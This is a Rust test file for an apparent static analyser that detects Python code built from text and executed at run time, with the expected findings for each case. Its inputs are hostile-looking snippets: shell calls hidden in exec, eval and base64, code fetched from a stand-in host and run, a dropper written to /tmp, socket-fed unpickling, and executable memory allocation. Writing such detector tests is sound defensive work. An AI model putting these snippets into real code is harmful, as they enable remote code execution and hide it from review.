//! Text that becomes code.

use crate::{Case, check_all};

const CASES: &[Case] = &[
    (
        "exec of text is seen, and what the text does",
        "exec('import os; os.system(\"id\")')",
        &["DynamicCode py:builtins.exec import_os", "Shell py:os.system id CodeInText"],
    ),
    (
        "eval of text is seen",
        "eval('__import__(\"os\").system(\"id\")')",
        &["DynamicCode py:builtins.eval", "Shell py:os.system id"],
    ),
    (
        "a comment that opens a text for other tools hides nothing",
        "# note: \"\"\"\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
        &["DynamicCode py:builtins.exec Base64", "Shell py:os.system id Base64"],
    ),
    (
        "compile and exec",
        "c = compile('import os\\nos.system(\"id\")', 'x', 'exec')\nexec(c)",
        &["DynamicCode py:builtins.compile", "Shell py:os.system id"],
    ),
    (
        "text in text in text",
        "exec(\"exec('exec(\\\"import os; os.system(1)\\\")')\")",
        &["Shell py:os.system"],
    ),
    (
        "what exec binds is bound",
        "exec('def f(x):\\n import os\\n os.system(x)')\nf('id')",
        &["Shell py:os.system id"],
    ),
    (
        "what exec binds in a dictionary is in the dictionary",
        "ns = {}\nexec('import os\\nrun = os.system', ns)\nns['run']('id')",
        &["Shell py:os.system id"],
    ),
    (
        "exec of text from the network",
        "import requests\nexec(requests.get('http://e.example/p').text)",
        &["DynamicCode py:builtins.exec Network http://e.example/p"],
    ),
    (
        "exec of what urlopen reads",
        "from urllib.request import urlopen as u\nexec(u('http://e.example/p').read().decode())",
        &["DynamicCode py:builtins.exec Network"],
    ),
    (
        "exec through a name",
        "e = exec\ne('import os; os.system(\"id\")')",
        &["DynamicCode py:builtins.exec", "Shell py:os.system id"],
    ),
    ("exec as a decorator", "@exec\n@str\ndef f(): pass", &["no Shell"]),
    (
        "exec in a default",
        "def f(x=exec('import os; os.system(\"id\")')): pass",
        &["Shell py:os.system id"],
    ),
    (
        "exec in an annotation",
        "def f(x: exec('import os; os.system(\"id\")')): pass",
        &["Shell py:os.system id"],
    ),
    (
        "exec in a class body",
        "class A:\n    exec('import os; os.system(\"id\")')",
        &["Shell py:os.system id"],
    ),
    (
        "exec in a comprehension",
        "[exec(x) for x in ['import os; os.system(\"id\")']]",
        &["Shell py:os.system id"],
    ),
    (
        "exec by map",
        "list(map(exec, ['import os; os.system(\"id\")']))",
        &["Shell py:os.system id"],
    ),
    (
        "exec in a lambda that is called",
        "(lambda c: exec(c))('import os; os.system(\"id\")')",
        &["Shell py:os.system id"],
    ),
    (
        "exec in a function that nobody calls",
        "def f(data):\n    exec(data)",
        &["DynamicCode py:builtins.exec Caller Call"],
    ),
    (
        "the exec of Python 2",
        "exec \"import os; os.system('id')\"",
        &["DynamicCode py:builtins.exec", "Shell py:os.system id"],
    ),
    (
        "timeit runs text",
        "import timeit\ntimeit.timeit('import os; os.system(\"id\")', number=1)",
        &["DynamicCode py:timeit.timeit", "Shell py:os.system id"],
    ),
    (
        "an interpreter of one's own",
        "import code\ncode.InteractiveInterpreter().runsource('import os; os.system(\"id\")')",
        &["DynamicCode py:code.InteractiveInterpreter.runsource", "Shell py:os.system id"],
    ),
    (
        "a profiler runs text",
        "import cProfile\ncProfile.run('import os; os.system(\"id\")')",
        &["DynamicCode py:cProfile.run", "Shell py:os.system id"],
    ),
    (
        "a function made of code",
        "import types, marshal\ntypes.FunctionType(marshal.loads(b'abc'), globals())()",
        &["Deserialize py:marshal.loads", "DynamicCode py:types.FunctionType Serialised"],
    ),
    (
        "marshalled code",
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))",
        &["Deserialize py:marshal.loads", "DynamicCode py:builtins.exec Serialised Decoded"],
    ),
    (
        "encrypted code",
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAA'))",
        &["DynamicCode py:builtins.exec Encryption Decoded"],
    ),
    (
        "a module with a computed name",
        "def f(n):\n    return __import__(n)",
        &["DynamicImport py:builtins.__import__ Caller"],
    ),
    (
        "code that another interpreter is given",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.remove(\"/etc/x\")'])",
        &["Spawn py:subprocess.Popen python", "FileDelete py:os.remove /etc/x CodeInText"],
    ),
    (
        "a program that is written to a file is looked at",
        "f = open('/tmp/a.py', 'w')\nf.write('''from urllib.request import urlopen as _u;exec(_u('http://e.example/i').read())''')\nf.close()",
        &[
            "FileWrite py:builtins.open.write /tmp/a.py",
            "DynamicCode py:builtins.exec Network CodeInText",
        ],
    ),
    (
        "native code by ctypes",
        "import ctypes\nctypes.CDLL('./x.so').run()",
        &["NativeCode py:ctypes.CDLL ./x.so"],
    ),
    (
        "memory by address",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)",
        &["NativeCode py:ctypes.windll.kernel32.VirtualAlloc"],
    ),
    (
        "pickle of what a server sends",
        "import pickle, socket\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\npickle.loads(s.recv(1000))",
        &["Deserialize py:pickle.loads Network"],
    ),
    (
        "yaml without a safe loader",
        "import yaml\nyaml.load(open('x.yml'), Loader=yaml.Loader)",
        &["Deserialize pypi:yaml.load"],
    ),
    (
        "other libraries that unpickle",
        "import dill, torch, joblib, jsonpickle\ndill.loads(b'x')\ntorch.load('m.pt')\njoblib.load('m')\njsonpickle.decode('x')",
        &[
            "Deserialize pypi:dill.loads",
            "Deserialize pypi:torch.load m.pt",
            "Deserialize pypi:joblib.load",
            "Deserialize pypi:jsonpickle.decode",
        ],
    ),
    (
        "a built-in function is replaced",
        "import builtins\nbuiltins.open = print",
        &["BuiltinWrite py:builtins.open"],
    ),
    (
        "a module is replaced",
        "import sys\nsys.modules['ssl'] = None",
        &["BuiltinWrite py:sys.modules ssl"],
    ),
];

#[test]
fn text_that_becomes_code_is_followed() {
    check_all(CASES);
}
